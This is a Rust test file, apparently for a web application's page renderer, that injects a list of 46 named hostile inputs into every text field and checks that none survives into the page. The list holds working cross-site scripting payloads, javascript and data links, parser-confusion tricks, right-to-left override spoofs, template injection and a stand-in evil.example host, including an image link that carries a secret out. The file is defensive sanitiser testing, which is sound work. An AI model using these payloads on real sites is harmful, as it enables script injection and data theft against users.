//! Hostile text in every field of every view.

use proptest::prelude::*;

use crate::answers::judge_answer;
use crate::html::{Element, parse};
use crate::policy::judge_links;
use crate::world::{FIELDS, pages, usual};

/// What people put into text in the hope that it acts. The name says what it tries.
pub(crate) const ATTACKS: [(&str, &str); 46] = [
    ("script", "<script>alert(1)</script>"),
    ("script that ends another", "</script><script>alert(1)</script>"),
    ("script in odd case", "<ScRiPt\n>alert(1)</sCrIpT\t>"),
    ("script torn apart", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("end of title", "</title><script>alert(1)</script>"),
    ("end of textarea", "</textarea><script>alert(1)</script>"),
    ("end of style", "</style><script>alert(1)</script>"),
    ("handler", "<img src=x onerror=alert(1)>"),
    ("handler without spaces", "<svg/onload=alert(1)>"),
    ("handler out of an attribute", "\" onmouseover=\"alert(1)"),
    ("handler out of a single quoted attribute", "' onfocus='alert(1)' autofocus='"),
    ("handler out of an unquoted attribute", " onclick=alert(1) x="),
    ("out of a tag", "\"><img src=x onerror=alert(1)>"),
    ("grave accents", "`onmouseover=alert(1)`"),
    ("javascript address", "javascript:alert(1)"),
    ("javascript link", "[a](javascript:alert(1))"),
    ("javascript link in odd case", "[a](JaVaScRiPt:alert(1))"),
    ("javascript link with entities", "[a](&#106;avascript&colon;alert&lpar;1&rpar;)"),
    ("javascript link with a tab", "[a](java&Tab;script:alert(1))"),
    ("javascript link with a control character", "[a](\u{1}javascript:alert(1))"),
    ("javascript autolink", "<javascript:alert(1)>"),
    ("data link", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("vbscript link", "[a](vbscript:msgbox(1))"),
    ("file link", "[a](file:///etc/passwd)"),
    ("another site without a scheme", "[a](//evil.example/x)"),
    ("another site with backslashes", "[a](/\\evil.example/x)"),
    ("another site behind a name", "[a](https://bank.example@evil.example/)"),
    ("a base outside", "//evil.example"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
    ("svg with a foreign part", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    (
        "mathml",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    ("nested form", "</form><form action=https://evil.example><button>Sign in</button>"),
    ("field", "<input name=token value=x formaction=https://evil.example>"),
    ("style", "<style>@import url(https://evil.example/x.css)</style>"),
    ("style attribute", "<p style=\"background:url(https://evil.example/x)\">a</p>"),
    ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
    ("base element", "<base href=https://evil.example/>"),
    ("frame", "<iframe srcdoc=\"<script>alert(1)</script>\" src=//evil.example></iframe>"),
    ("picture that carries data out", "![a](https://evil.example/?q=secret)"),
    ("picture by reference", "![a][1]\n\n[1]: https://evil.example/?q=secret \"x\\\" onerror=alert(1)\""),
    ("comment", "<!-- --!><script>alert(1)</script> -->"),
    ("section", "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>"),
    (
        "characters turned round",
        "[https://bank.example\u{202e}](https://evil.example/\u{202e}moc.knab) \u{202e}gpj.exe\u{2066}",
    ),
    ("NUL", "<\0script>alert(1)</\0script>\0javascript\0:alert(1)"),
    ("template", "{{ 7*7 }} {% include 'x' %} ${7*7} {{ csrf|safe }}"),
];

/// What must hold for a page with any text in it, compared with the page with the usual text.
fn judge(name: &str, page: &str, usual: &Element, what: &str) {
    let seen = parse(page);
    let (shape, full) = (seen.shape(), usual.shape());
    if name.starts_with("document") {
        // What a document does not have is left out; nothing is added.
        let mut rest = full.iter();
        let added = shape.iter().find(|element| !rest.any(|it| it == *element));
        assert_eq!(added, None, "an element of `{name}` with {what}");
    } else {
        assert_eq!(shape, full, "the elements of `{name}` with {what}");
    }
    judge_links(name, &seen);
    for prose in seen.all().into_iter().filter(|element| element.has_class("prose")) {
        judge_answer(prose);
    }
    let unseen = page.chars().find(|c| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    });
    assert_eq!(unseen, None, "an unseen character in `{name}` with {what}");
}

/// Judges the pages that these texts change.
fn judge_all(text: &dyn Fn(&str) -> String, usual: &[(String, Element)], what: &str) {
    for ((name, page), (as_usual, usual)) in pages(text).iter().zip(usual) {
        if page != as_usual {
            judge(name, page, usual, what);
        }
    }
}

fn usual_pages() -> Vec<(String, Element)> {
    let judged = |(name, page): (&str, String)| {
        let parsed = parse(&page);
        judge(name, &page, &parsed, "the usual texts");
        (page, parsed)
    };
    pages(&usual).into_iter().map(judged).collect()
}

/// Each attack meets each field once, with other attacks in the fields around it.
#[test]
fn no_attack_in_any_field_reaches_a_page() {
    let wanted = usual_pages();
    for shift in 0..ATTACKS.len() {
        let attack = |field: &str| {
            let at = FIELDS.iter().position(|name| *name == field).unwrap();
            ATTACKS[(at + shift) % ATTACKS.len()].1.to_owned()
        };
        judge_all(&attack, &wanted, &format!("attacks from the {shift}th on"));
    }
}

/// A field that nothing else in the page distracts from.
#[test]
fn no_attack_in_a_single_field_reaches_a_page() {
    let wanted = usual_pages();
    let hostile = ATTACKS.map(|(_, text)| text).join("\n\n");
    for attacked in FIELDS {
        let text = |field: &str| if field == attacked { hostile.clone() } else { usual(field) };
        judge_all(&text, &wanted, &format!("all attacks in `{attacked}`"));
    }
}

#[test]
fn no_attack_in_all_fields_at_once_reaches_a_page() {
    let wanted = usual_pages();
    for (attack, hostile) in ATTACKS {
        judge_all(&|_| hostile.to_owned(), &wanted, attack);
    }
}

#[test]
fn the_judge_notices_each_kind_of_defect() {
    let (name, page) = pages(&usual).into_iter().find(|(name, _)| *name == "chat").unwrap();
    let good = parse(&page);
    judge(name, &page, &good, "nothing");
    for (from, to) in [
        ("<p class=\"when\">", "<p class=\"when\" onclick=\"x\">"),
        ("<h1 ", "<b></b><h1 "),
        ("href=\"/c/harbour-rowing/history\"", "href=\"https://evil.example/\""),
        ("href=\"/c/harbour-rowing/history\"", "href=\"javascript:alert(1)\""),
        ("At <strong>", "At <img src=x><strong>"),
        ("At <strong>", "At <strong title=x>"),
        (
            "At <strong>",
            "At <a href=\"https://evil.example/\" rel=\"noopener noreferrer nofollow\">x</a><strong>",
        ),
        ("At <strong>", "At \u{202e}<strong>"),
    ] {
        assert!(page.contains(from), "{from}");
        let bad = page.replacen(from, to, 1);
        let caught = std::panic::catch_unwind(|| judge(name, &bad, &good, "a defect"));
        assert!(caught.is_err(), "not noticed: {to}");
    }
}

/// Text that is more likely to act than random characters are.
pub(crate) fn hostile() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        3 => any::<char>().prop_map(String::from),
        2 => proptest::sample::select(ATTACKS.to_vec()).prop_map(|(_, text)| text.to_owned()),
        6 => proptest::sample::select(vec![
            "<", ">", "\"", "'", "&", "`", "/", "\\", "=", "[", "]", "(", ")", "!", "*", "_", "~~", "#", "|", "\n",
            "\n\n", "> ", "- ", "1. ", "    ", "```", "---", "[1]", "[1]: ", "](", "![", "</", "<!--", "-->", "]]>",
            "<a href=", "<img src=", "onerror=", "javascript:", "data:", "https://evil.example/", "//evil.example",
            "&#x3c;", "&lt;", "&#0;", "&#x202e;", "\u{202e}", "\0", "\u{feff}", "style=", "/c/", "x", " ",
        ])
        .prop_map(str::to_owned),
    ];
    proptest::collection::vec(token, 0..24).prop_map(|tokens| tokens.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_leaves_every_page_as_its_template_is(texts in proptest::collection::vec(hostile(), FIELDS.len())) {
        let text = |field: &str| texts[FIELDS.iter().position(|name| *name == field).unwrap()].clone();
        judge_all(&text, &usual_pages(), "any text");
    }
}
